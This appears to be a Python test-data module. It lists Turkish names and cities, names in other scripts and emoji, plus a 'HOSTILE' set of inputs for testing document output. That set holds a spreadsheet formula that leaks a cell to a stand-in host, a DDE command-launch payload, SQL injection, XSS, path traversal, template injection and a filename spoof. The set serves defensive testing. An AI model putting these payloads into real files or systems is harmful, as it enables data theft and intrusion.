"""
What the shipped data sets say: names as a Turkish office has them, and the text that breaks documents.

Other scripts, emoji, formulas, markup, control characters, very long names.
"""

FIRST_NAMES = (
    "Ayşe", "Fatma", "Emine", "Hatice", "Zeynep", "Elif", "Meryem", "Şerife", "Zehra", "Sultan", "Hanife",
    "Merve", "Havva", "Özlem", "Gülşah", "Çiğdem", "Şule", "Tuğba", "Müge", "İrem", "Ilgın", "Işıl", "Nilüfer",
    "Gökçe", "Öykü", "Ümmühan", "Mehmet", "Mustafa", "Ahmet", "Ali", "Hüseyin", "Hasan", "İbrahim", "İsmail",
    "Osman", "Yusuf", "Murat", "Ömer", "Ramazan", "Halil", "Süleyman", "Abdullah", "Çağlar", "Çağrı", "Göksel",
    "Gürkan", "Ümit", "Özgür", "Uğur", "Tuğrul", "Ufuk", "Barış", "Şükrü", "Kağan", "Doğukan", "Oğuzhan",
    "Yiğit", "Işık", "Rıza", "Ilgaz", "Cem", "Deniz", "Ece",
)  # fmt: skip
LAST_NAMES = (
    "Yılmaz", "Kaya", "Demir", "Çelik", "Şahin", "Yıldız", "Yıldırım", "Öztürk", "Aydın", "Özdemir", "Arslan",
    "Doğan", "Kılıç", "Aslan", "Çetin", "Kara", "Koç", "Kurt", "Özkan", "Şimşek", "Polat", "Özcan", "Korkmaz",
    "Çakır", "Erdoğan", "Yavuz", "Can", "Acar", "Şen", "Aktaş", "Güler", "Yalçın", "Güneş", "Bozkurt", "Bulut",
    "Keskin", "Ünal", "Turan", "Gül", "Özer", "Işık", "Kaplan", "Avcı", "Sarı", "Tekin", "Taş", "Köse",
    "Yüksel", "Ateş", "Aksoy", "İnan", "İnce", "Iğdırlı", "Ağaoğlu", "Müftüoğlu", "Gümüş", "Üstün", "Çağlayan",
    "Ömeroğlu", "Ğaripoğlu",
)  # fmt: skip
CITIES = (
    "İstanbul", "Ankara", "İzmir", "Bursa", "Antalya", "Adana", "Konya", "Şanlıurfa", "Gaziantep", "Kocaeli",
    "Mersin", "Diyarbakır", "Hatay", "Manisa", "Kayseri", "Samsun", "Balıkesir", "Kahramanmaraş", "Van",
    "Aydın", "Tekirdağ", "Sakarya", "Denizli", "Muğla", "Eskişehir", "Mardin", "Trabzon", "Ordu", "Malatya",
    "Erzurum", "Çorum", "Çanakkale", "Iğdır", "Ağrı", "Uşak", "Kırşehir", "Düzce", "Gümüşhane", "Niğde",
    "Tunceli", "Şırnak", "Muş", "Bingöl",
)  # fmt: skip

OTHER_SCRIPTS = (
    "山田太郎", "王小明", "김민준", "鈴木 花子 (すずき はなこ)", "محمد عبد الله", "فاطمة الزهراء", "שרה כהן",
    "Александр Пушкин", "Ольга Шевченко", "अमित शर्मा", "प्रिया सिंह", "สมชาย ใจดี", "Γιώργος Παπαδόπουλος",
    "José Ñuñez", "Zoë Brontë", "Đặng Thị Hương", "Łukasz Żółć", "I\u0307smail \u0130nce", "Ays\u0327e Go\u0308k",
)  # fmt: skip
EMOJI = ("Ece 🌸", "👩‍💻 Deniz", "Can 🇹🇷", "👨‍👩‍👧‍👦 Aile Hesabı", "Ali 👍🏽")
HOSTILE = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Tıkla")', "=1+1", "+905321234567", "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '"Tırnak" Ayşe', "O'Brien", "Kaya, Ali; Dr.", "iki\nsatır",
    "üç\r\nsatır", "<script>alert(1)</script>", "<b>&amp;</b>", "]]>", "' OR 1=1 --", "'; drop table users; --",
    ") Tj (", "(a) Tj ET Q\\", "\\) \\( \\\\", "%PDF-1.7 endobj", "{{7*7}} ${7*7} %s %n", "../../etc/passwd",
    "\u202etxt.exe\u202c", "Ay\u200bşe\u200d\ufeff", "control \x01\x07\x08\x1b[31m\x7f", "\ufffd\ufffe", "   ",
    "\u00a0", "NULL", "null", "NaN", "007", "1e5", "a\u0301\u0323\u0308" * 12,
    "Şükrü " * 50, "Ğ" * 300, "VeryLongNameWithoutAnySpace" * 11, "龍" * 150,
)  # fmt: skip

SPECIAL = (*OTHER_SCRIPTS, *EMOJI, *HOSTILE)
